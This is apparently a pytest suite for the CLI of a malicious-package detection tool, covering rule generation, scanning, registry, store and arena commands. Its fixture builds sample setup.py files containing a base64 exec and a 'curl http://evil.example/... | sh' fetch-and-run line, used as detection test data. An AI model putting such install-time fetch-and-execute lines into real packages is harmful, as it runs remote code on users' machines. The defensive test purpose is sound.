"""End-to-end CLI coverage: generate, scan, and the pipeline loop via main(argv).

Everything runs on a tiny on-disk corpus (two similar malicious packages —
similar so the clustering stage retains their group — plus one benign) so
the full generate -> publish -> scan loop stays fast while exercising the
real argument parsing, package discovery and exit codes.
"""

import json

import pytest

from repro.cli import main as cli_main
from repro.core.rules import GeneratedRuleSet


def _malicious_setup(variant: str) -> str:
    return (
        "import base64, os\n"
        'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
        f'os.system("curl http://evil.example/{variant} | sh")\n'
    )


BENIGN_LIB = "def add(a, b):\n    return a + b\n"


def _write_package(root, name: str, file_name: str, content: str):
    package = root / name
    package.mkdir(parents=True)
    (package / file_name).write_text(content, encoding="utf-8")
    return package


@pytest.fixture()
def malware_dir(tmp_path):
    """Two similar malicious packages: one retained cluster, real rules."""
    root = tmp_path / "malware"
    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
    _write_package(root, "evil-pkg-fork", "setup.py", _malicious_setup("stage2"))
    return root


@pytest.fixture()
def corpus_dir(tmp_path, malware_dir):
    """Scan targets: one of the malicious packages plus a benign one."""
    root = tmp_path / "pkgs"
    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
    _write_package(root, "nice-pkg", "lib.py", BENIGN_LIB)
    return root


class TestGenerateCli:
    def test_generate_from_package_directory(self, malware_dir, tmp_path, capsys):
        rules_dir = tmp_path / "rules"
        exit_code = cli_main(
            ["generate", "--packages", str(malware_dir), "--output", str(rules_dir)]
        )
        assert exit_code == 0
        output = capsys.readouterr().out
        assert "generating rules from 2 malicious packages" in output
        assert "wrote" in output
        written = list(rules_dir.rglob("*.yar")) + list(rules_dir.rglob("*.yaml"))
        assert written, "generate must write rule files"

    def test_generate_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["generate", "--packages", str(empty)]) == 1


class TestScanCli:
    @pytest.fixture()
    def rules_dir(self, malware_dir, tmp_path):
        rules = tmp_path / "rules"
        assert (
            cli_main(
                ["generate", "--packages", str(malware_dir), "--output", str(rules)]
            )
            == 0
        )
        return rules

    def test_scan_flags_malicious_package(self, rules_dir, corpus_dir, capsys):
        exit_code = cli_main(
            ["scan", "--rules", str(rules_dir), str(corpus_dir / "evil-pkg")]
        )
        assert exit_code == 2
        assert "MALICIOUS" in capsys.readouterr().out

    def test_scan_clean_package_exits_zero(self, rules_dir, corpus_dir, capsys):
        target = str(corpus_dir / "nice-pkg")
        assert cli_main(["scan", "--rules", str(rules_dir), target]) == 0
        assert capsys.readouterr().out == f"{target}: clean (0 rules matched: -)\n"

    def test_scan_verdict_lines_equal_scan_batch(self, rules_dir, corpus_dir, capsys):
        targets = [str(corpus_dir / "evil-pkg"), str(corpus_dir / "nice-pkg")]
        assert cli_main(["scan", "--rules", str(rules_dir), *targets]) == 2
        scan_lines = capsys.readouterr().out.splitlines()
        assert cli_main(
            ["scan-batch", "--rules", str(rules_dir), "--mode", "inprocess", *targets]
        ) == 2
        batch_lines = capsys.readouterr().out.splitlines()
        assert len(scan_lines) == 2
        assert scan_lines == [
            line for line in batch_lines if line.startswith(tuple(targets))
        ]

    def test_scan_without_rules_exits_one(self, corpus_dir, tmp_path):
        empty = tmp_path / "no-rules"
        empty.mkdir()
        assert cli_main(["scan", "--rules", str(empty), str(corpus_dir / "evil-pkg")]) == 1

    def test_scan_batch_over_generated_rules(
        self, rules_dir, corpus_dir, tmp_path, capsys
    ):
        report_path = tmp_path / "report.json"
        exit_code = cli_main(
            [
                "scan-batch",
                "--rules", str(rules_dir),
                "--mode", "inprocess",
                "--json", str(report_path),
                str(corpus_dir),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 2  # the evil package must be flagged
        assert "published ruleset v1" in output
        assert str(corpus_dir / "evil-pkg") + ": MALICIOUS" in output
        assert str(corpus_dir / "nice-pkg") + ": clean" in output
        assert "slowest rules:" in output  # per-rule cost telemetry surfaced
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["packages"] == 2
        assert report["malicious"] == 1


class TestPipelineCli:
    def test_pipeline_end_to_end_on_package_directory(
        self, malware_dir, tmp_path, capsys
    ):
        report_path = tmp_path / "report.json"
        rules_dir = tmp_path / "rules"
        exit_code = cli_main(
            [
                "pipeline",
                "--packages", str(malware_dir),
                "--batches", "2",
                "--mode", "inprocess",
                "--output", str(rules_dir),
                "--json", str(report_path),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        # the corpus was fed incrementally ...
        assert "fed batch 1/2" in output
        assert "fed batch 2/2" in output
        # ... auto-published as v1 ...
        assert "published v1" in output
        # ... and the scan used it with no manual registry step
        assert "ruleset v1" in output
        assert "evil-pkg: MALICIOUS" in output
        assert "evil-pkg-fork: MALICIOUS" in output
        assert rules_dir.is_dir()
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["ruleset_version"] == 1
        assert report["packages"] == 2

    def test_pipeline_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["pipeline", "--packages", str(empty)]) == 1

    def test_pipeline_on_synthetic_corpus(self, capsys):
        exit_code = cli_main(
            ["pipeline", "--scale", "0.01", "--batches", "3", "--mode", "inprocess"]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        assert "published v1" in output
        assert "detection: precision" in output


class TestOrchestrateCli:
    def test_orchestrate_fleet_with_live_rescan(self, tmp_path, capsys):
        """2-shard merge publish + live re-scan (the CI smoke flow)."""
        report_path = tmp_path / "orchestrator.json"
        exit_code = cli_main(
            [
                "orchestrate",
                "--scale", "0.01",
                "--shards", "2",
                "--max-workers", "1",
                "--json", str(report_path),
            ]
        )
        output = capsys.readouterr().out
        assert exit_code == 0
        # baseline published and pre-scanned to prime the re-scan window ...
        assert "baseline:" in output
        assert "re-scan window primed" in output
        # ... the fleet published a merged v2 with per-shard provenance ...
        assert "fleet[cluster]" in output
        assert "shard clusters-0" in output
        # ... which triggered the subscribed service's live re-scan
        assert "re-scan v1 -> v2" in output
        report = json.loads(report_path.read_text(encoding="utf-8"))
        assert report["fleet"]["version"] == 2
        assert report["fleet"]["publish"] == "merged"
        assert len(report["fleet"]["shards"]) == 2
        assert report["rescan"]["to_version"] == 2
        assert report["rescan"]["scanned"] > 0

    def test_orchestrate_empty_directory_fails(self, tmp_path):
        empty = tmp_path / "empty"
        empty.mkdir()
        assert cli_main(["orchestrate", "--packages", str(empty)]) == 1


def _recovered_registry(root):
    from repro.scanserve import RulesetRegistry
    from repro.store import open_store

    store, _ = open_store(root, durable=False, create=False)
    with store:
        return RulesetRegistry.from_store(store)


class TestRegistryCli:
    @pytest.fixture()
    def store_dir(self, malware_dir, tmp_path):
        root = tmp_path / "store"
        for _ in range(2):  # two orchestrated publishes -> v1 and v2
            assert cli_main(
                [
                    "orchestrate",
                    "--packages", str(malware_dir),
                    "--shards", "2",
                    "--max-workers", "1",
                    "--baseline", "0",
                    "--store", str(root),
                    "--no-durable-store",
                ]
            ) == 0
        return root

    def test_list_activate_retire_roundtrip(self, store_dir, capsys):
        capsys.readouterr()
        assert cli_main(["registry", "list", str(store_dir)]) == 0
        listing = capsys.readouterr().out
        assert "  v1 " in listing and "* v2 " in listing  # v2 is active

        assert cli_main(["registry", "activate", str(store_dir), "1"]) == 0
        assert cli_main(["registry", "retire", str(store_dir), "2"]) == 0
        capsys.readouterr()

        assert cli_main(["registry", "list", str(store_dir)]) == 0
        listing = capsys.readouterr().out
        assert "* v1 " in listing and "x v2 " in listing
        recovered = _recovered_registry(store_dir)
        assert recovered.versions() == [1]
        assert recovered.current_version() == 1

    def test_retire_active_or_unknown_version_fails(self, store_dir, capsys):
        capsys.readouterr()
        assert cli_main(["registry", "retire", str(store_dir), "2"]) == 1
        assert "cannot retire the active version" in capsys.readouterr().err
        assert cli_main(["registry", "retire", str(store_dir), "9"]) == 1
        assert "unknown version v9" in capsys.readouterr().err
        assert cli_main(["registry", "activate", str(store_dir), "9"]) == 1
        assert "unknown version v9" in capsys.readouterr().err
        assert _recovered_registry(store_dir).versions() == [1, 2]

    def test_list_empty_directory(self, tmp_path, capsys):
        """A plain directory or a missing path is refused (exit 1, no
        exception) and pointed at the import."""
        plain = tmp_path / "plain"
        (plain / "v1").mkdir(parents=True)
        for root in (plain, tmp_path / "nothing"):
            assert cli_main(["registry", "list", str(root)]) == 1
            assert "rulellm store migrate" in capsys.readouterr().err
        assert not (plain / "journal").exists()
        assert not (tmp_path / "nothing").exists()

    def test_retire_with_reason_stamps_a_tombstone(self, store_dir, capsys):
        assert cli_main(["registry", "activate", str(store_dir), "1"]) == 0
        capsys.readouterr()
        assert cli_main(
            ["registry", "retire", str(store_dir), "2",
             "--reason", "decayed in the arena", "--by", "ops"]
        ) == 0
        assert "retired by ops: decayed in the arena" in capsys.readouterr().out
        tombstones = _recovered_registry(store_dir).retirements()
        assert [t.version for t in tombstones] == [2]
        assert tombstones[0].reason == "decayed in the arena"
        assert tombstones[0].retired_by == "ops"
        assert tombstones[0].rule_count > 0

        assert cli_main(["registry", "list", str(store_dir)]) == 0
        listing = capsys.readouterr().out
        assert "retired by ops: decayed in the arena" in listing


def _write_rule_dir(root, needle: str):
    (root / "yara").mkdir(parents=True)
    (root / "yara" / f"{needle}.yar").write_text(
        f'rule {needle} {{ strings: $a = "{needle}" condition: $a }}\n',
        encoding="utf-8",
    )


class TestDamagedStoreCli:
    @pytest.mark.parametrize("frame", ["first", "last"])
    def test_damaged_sealed_segment_exits_unrecoverable(
        self, tmp_path, capsys, frame
    ):
        """One flipped byte in a sealed segment, in the first of its two
        frames (mid-stream) or the last (reads like a torn append), makes
        every registry command, store info, compaction and the arena's
        store readers exit 1 with one line."""
        from repro.scanserve import RulesetRegistry
        from repro.store import open_store
        from repro.store.journal import SEGMENT_MAGIC

        root = tmp_path / "store"
        store, _ = open_store(root, durable=False)
        with store:
            registry = RulesetRegistry(store=store)
            for needle in ("needle_one", "needle_two", "needle_three"):
                _write_rule_dir(tmp_path / needle, needle)
                registry.publish_generated(GeneratedRuleSet.load(tmp_path / needle))
                if needle == "needle_two":
                    sealed = store.journal.rotate()
        blob = bytearray(sealed.read_bytes())
        blob[len(SEGMENT_MAGIC) + 10 if frame == "first" else -1] ^= 0xFF
        sealed.write_bytes(bytes(blob))

        capsys.readouterr()
        for argv in (
            ["registry", "list", str(root)],
            ["registry", "activate", str(root), "1"],
            ["registry", "retire", str(root), "1"],
            ["store", "info", str(root)],
            ["store", "compact", str(root)],
            ["arena", "leaderboard", str(root)],
            ["arena", "history", str(root)],
        ):
            assert cli_main(argv) == 1, argv
            err = capsys.readouterr().err
            assert err.startswith(f"store {root} unrecoverable: {sealed.name}: "), err
        assert cli_main(["store", "fsck", str(root)]) == 1
        assert sealed.exists()


class TestStoreMigrateCli:
    @pytest.fixture()
    def old_registry(self, tmp_path):
        """v1 and v3 on disk, v2 retired (tombstone only), v1 marked active."""
        root = tmp_path / "old"
        _write_rule_dir(root / "v1", "needle_one")
        _write_rule_dir(root / "v3", "needle_three")
        (root / "ACTIVE").write_text("1\n", encoding="utf-8")
        (root / "RETIRED.json").write_text(
            json.dumps([{"version": 2, "reason": "too noisy", "retired_by": "ops"}]),
            encoding="utf-8",
        )
        return root

    def test_migrate_keeps_numbering_active_and_tombstones(
        self, old_registry, tmp_path
    ):
        dest = tmp_path / "store"
        assert cli_main(["store", "migrate", str(old_registry), str(dest)]) == 0
        recovered = _recovered_registry(dest)
        assert recovered.versions() == [1, 3]
        assert recovered.current_version() == 1
        assert recovered.get(3).yara.rules[0].name == "needle_three"
        tombstones = recovered.retirements()
        assert [t.version for t in tombstones] == [2]
        assert (tombstones[0].reason, tombstones[0].retired_by) == ("too noisy", "ops")
        assert not recovered.recovery_notes

    def test_missing_active_marker_activates_the_highest_version(
        self, old_registry, tmp_path, capsys
    ):
        (old_registry / "ACTIVE").unlink()
        dest = tmp_path / "store"
        assert cli_main(["store", "migrate", str(old_registry), str(dest)]) == 0
        assert "activating v3" in capsys.readouterr().out
        assert _recovered_registry(dest).current_version() == 3

    def test_migrate_into_an_existing_store_fails(self, old_registry, tmp_path, capsys):
        from repro.scanserve import RulesetRegistry
        from repro.store import open_store

        dest = tmp_path / "store"
        store, _ = open_store(dest, durable=False)
        with store:
            RulesetRegistry(store=store).publish_generated(
                GeneratedRuleSet.load(old_registry / "v3"), label="pre-existing"
            )
        assert cli_main(["store", "migrate", str(old_registry), str(dest)]) == 1
        assert "already holds a store" in capsys.readouterr().err
        recovered = _recovered_registry(dest)
        assert recovered.versions() == [1]
        assert recovered.current().label == "pre-existing"


class TestArenaCli:
    @pytest.fixture()
    def arena_store(self, tmp_path):
        """A store holding two journaled rounds: round 0 with its scores and
        statuses, round 1 in the shape journaled before rounds carried them."""
        from repro.store import open_store
        from repro.store.journal import ARENA_ROUND

        root = tmp_path / "arena"
        store, _ = open_store(root, durable=False)
        with store:
            store.journal.append(ARENA_ROUND, {
                "index": 0, "version": 1, "policy": "strict", "packages": 16,
                "malicious": 8, "retired_rules": [], "retired_version": None,
                "refeed_version": None, "namespace": "",
                "scores": [["good", 0.9], ["bad", 0.1]],
                "statuses": [["bad", "quarantined"]],
            })
            store.journal.append(ARENA_ROUND, {
                "index": 1, "version": 1, "policy": "strict", "packages": 16,
                "malicious": 7, "retired_rules": ["bad"], "retired_version": 1,
                "refeed_version": 2,
            })
        return root

    def test_leaderboard_listing(self, arena_store, capsys):
        assert cli_main(["arena", "leaderboard", str(arena_store)]) == 0
        output = capsys.readouterr().out
        assert "#1 (=) good: 0.900" in output
        assert "[quarantined]" in output

    def test_history_listing(self, arena_store, capsys):
        assert cli_main(["arena", "history", str(arena_store)]) == 0
        output = capsys.readouterr().out
        assert "round 0 v1: 16 pkgs (8 malicious)" in output
        assert "retired 1 rule(s); refeed -> v2" in output

    def test_readers_repair_nothing(self, arena_store, capsys):
        """Beside a live `arena run --store`, the readers must leave its
        half-written frame and a blob's scratch file where they are."""
        from repro.store.recovery import BLOBS_DIR, JOURNAL_DIR

        segment = sorted((arena_store / JOURNAL_DIR).glob("segment-*.wal"))[-1]
        with open(segment, "ab") as handle:
            handle.write(b"\x00\x00\x01")  # a frame header cut short
        size = segment.stat().st_size
        scratch = arena_store / BLOBS_DIR / "ab" / "pending.tmp"
        scratch.parent.mkdir(parents=True, exist_ok=True)
        scratch.write_bytes(b"half a blob")
        assert cli_main(["arena", "leaderboard", str(arena_store)]) == 0
        assert "#1 (=) good: 0.900" in capsys.readouterr().out
        assert cli_main(["arena", "history", str(arena_store)]) == 0
        assert "round 1 v1:" in capsys.readouterr().out
        assert segment.stat().st_size == size
        assert scratch.read_bytes() == b"half a blob"

    def test_missing_state_dir_fails_with_hint(self, tmp_path, capsys):
        for command in ("leaderboard", "history"):
            assert cli_main(["arena", command, str(tmp_path / "nowhere")]) == 1
            assert "arena run --store" in capsys.readouterr().err

    def test_restarted_run_continues_rounds_and_board(self, tmp_path, capsys):
        store = str(tmp_path / "store")
        for _ in range(2):
            assert cli_main(["arena", "run", "--rounds", "2", "--store", store]) == 0
        history = tmp_path / "history.json"
        board = tmp_path / "board.json"
        assert cli_main(["arena", "history", store, "--json", str(history)]) == 0
        assert cli_main(["arena", "leaderboard", store, "--json", str(board)]) == 0
        rounds = json.loads(history.read_text(encoding="utf-8"))["rounds"]
        assert [r["index"] for r in rounds] == [0, 1, 2, 3]
        standings = json.loads(board.read_text(encoding="utf-8"))
        assert standings["rounds_recorded"] == 4
        assert standings["entries"]
        assert max(e["rounds"] for e in standings["entries"]) == 4


class TestObsCommands:
    @pytest.fixture()
    def trace_file(self, tmp_path):
        records = [
            {"trace_id": "t1", "span_id": "a", "parent_id": None,
             "name": "scan.batch", "start": 1.0, "seconds": 0.05,
             "status": "ok", "attrs": {"packages": 4}},
            {"trace_id": "t1", "span_id": "b", "parent_id": "a",
             "name": "scan.chunk", "start": 1.1, "seconds": 0.02,
             "status": "ok", "attrs": {}},
        ]
        path = tmp_path / "spans.jsonl"
        path.write_text(
            "\n".join(json.dumps(r) for r in records) + "\n{torn tail",
            encoding="utf-8",
        )
        return path

    def test_obs_spans_renders_the_tree(self, trace_file, capsys):
        assert cli_main(["obs", "spans", str(trace_file)]) == 0
        output = capsys.readouterr().out
        assert "trace t1" in output
        assert "scan.batch  50.0ms" in output
        assert "└─ scan.chunk  20.0ms" in output

    def test_obs_spans_filters_by_trace_id(self, trace_file, capsys):
        assert cli_main(
            ["obs", "spans", str(trace_file), "--trace-id", "t1"]
        ) == 0
        assert "scan.batch" in capsys.readouterr().out

    def test_obs_top_ranks_by_duration(self, trace_file, capsys):
        assert cli_main(["obs", "top", str(trace_file), "--limit", "1"]) == 0
        output = capsys.readouterr().out
        assert "scan.batch" in output
        assert "scan.chunk" not in output

    def test_obs_spans_missing_file_fails(self, tmp_path, capsys):
        assert cli_main(["obs", "spans", str(tmp_path / "nope.jsonl")]) == 1
        assert "cannot read" in capsys.readouterr().err

    def test_obs_spans_empty_file_fails(self, tmp_path, capsys):
        empty = tmp_path / "empty.jsonl"
        empty.write_text("", encoding="utf-8")
        assert cli_main(["obs", "spans", str(empty)]) == 1
        assert "no span records" in capsys.readouterr().err

    def test_orchestrate_trace_flag_writes_spans(self, malware_dir, tmp_path, capsys):
        sink = tmp_path / "fleet.jsonl"
        assert cli_main([
            "orchestrate", "--packages", str(malware_dir),
            "--shards", "2", "--baseline", "0", "--trace", str(sink),
        ]) == 0
        assert "tracing enabled" in capsys.readouterr().out
        names = {
            json.loads(line)["name"]
            for line in sink.read_text(encoding="utf-8").splitlines()
        }
        assert "fleet.run" in names
        assert "session.generate" in names
        # the CLI process leaves the global tracer configured; later tests
        # must not inherit it
        from repro.obs import disable_tracing, get_tracer

        disable_tracing()
        assert not get_tracer().enabled
